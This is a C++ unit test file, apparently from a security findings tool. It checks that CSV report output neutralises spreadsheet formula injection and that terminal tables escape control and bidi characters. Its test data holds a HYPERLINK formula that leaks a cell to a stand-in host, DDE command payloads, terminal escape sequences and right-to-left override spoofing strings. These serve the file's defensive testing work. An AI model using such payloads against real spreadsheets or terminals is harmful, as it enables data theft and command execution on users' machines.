// Tables as people and spreadsheets see them: CSV cells that a spreadsheet would run as formulas
// are neutralised (OWASP), unless raw output is asked for; terminal tables show control
// characters instead of sending them to the terminal.
#include "report/record_table.h"

#include <gtest/gtest.h>

#include "core/finding.h"
#include "report/findings_writer.h"

namespace ashiato::report {
namespace {

RecordTable users(std::initializer_list<const char*> names) {
  RecordTable t;
  t.add_column("user");
  t.add_column("bytes", true);
  for (const char* n : names) t.rows.push_back({n, "-1"});
  return t;
}

TEST(RecordTable, CsvCellsThatAreFormulasAreNeutralised) {
  const RecordTable t = users({"=HYPERLINK(\"http://198.51.100.9/?\"&A1,\"x\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
                               "-2+3+cmd|' /C calc'!A0", "\tx", "adm-tanaka", "-", "-12.5"});
  EXPECT_EQ(format_table(t, TableFormat::kCsv),
            "user,bytes\n"
            "\"'=HYPERLINK(\"\"http://198.51.100.9/?\"\"&A1,\"\"x\"\")\",-1\n"
            "\"'@SUM(1+1)\",-1\n"
            "\"'+cmd|' /C calc'!A0\",-1\n"
            "\"'-2+3+cmd|' /C calc'!A0\",-1\n"
            "\"'\tx\",-1\n"
            "adm-tanaka,-1\n"
            "-,-1\n"
            "-12.5,-1\n");
  // Raw: as read, quoted only where CSV needs it.
  EXPECT_EQ(format_table(users({"=1+1"}), TableFormat::kCsv, 60, CsvCells::kRaw), "user,bytes\n=1+1,-1\n");
}

TEST(RecordTable, FindingsCsvIsNeutralisedToo) {
  Finding f;
  f.host = "=cmd|' /C calc'!A0";
  f.title = "C2 communication";
  const std::string safe = format_findings({f}, FindingsFormat::kCsv, false);
  EXPECT_NE(safe.find(",\"'=cmd|' /C calc'!A0\","), std::string::npos) << safe;
  std::string raw;
  write_findings(
      {f}, FindingsFormat::kCsv, false, [&raw](std::string_view s) { raw += s; }, CsvCells::kRaw);
  EXPECT_NE(raw.find(",=cmd|' /C calc'!A0,"), std::string::npos) << raw;
}

TEST(RecordTable, TerminalTablesShowControlAndBidiCharacters) {
  const std::string text = format_table(users({"PC\x1b[2J\x1b[H",
                                               "\xE2\x80\xAE"
                                               "710-CP"}),
                                        TableFormat::kText);
  EXPECT_EQ(text.find('\x1b'), std::string::npos) << text;
  EXPECT_NE(text.find("PC\\x1b[2J\\x1b[H"), std::string::npos) << text;
  EXPECT_NE(text.find("<U+202E>710-CP"), std::string::npos) << text;
  Finding f;
  f.host = "PC\x1b]0;owned\x07";
  f.details =
      "user: \xE2\x80\xAE"
      "nimda";
  const std::string table = format_findings({f}, FindingsFormat::kTable, false);
  EXPECT_EQ(table.find('\x1b'), std::string::npos) << table;
  EXPECT_NE(table.find("<U+202E>nimda"), std::string::npos) << table;
}

}  // namespace
}  // namespace ashiato::report
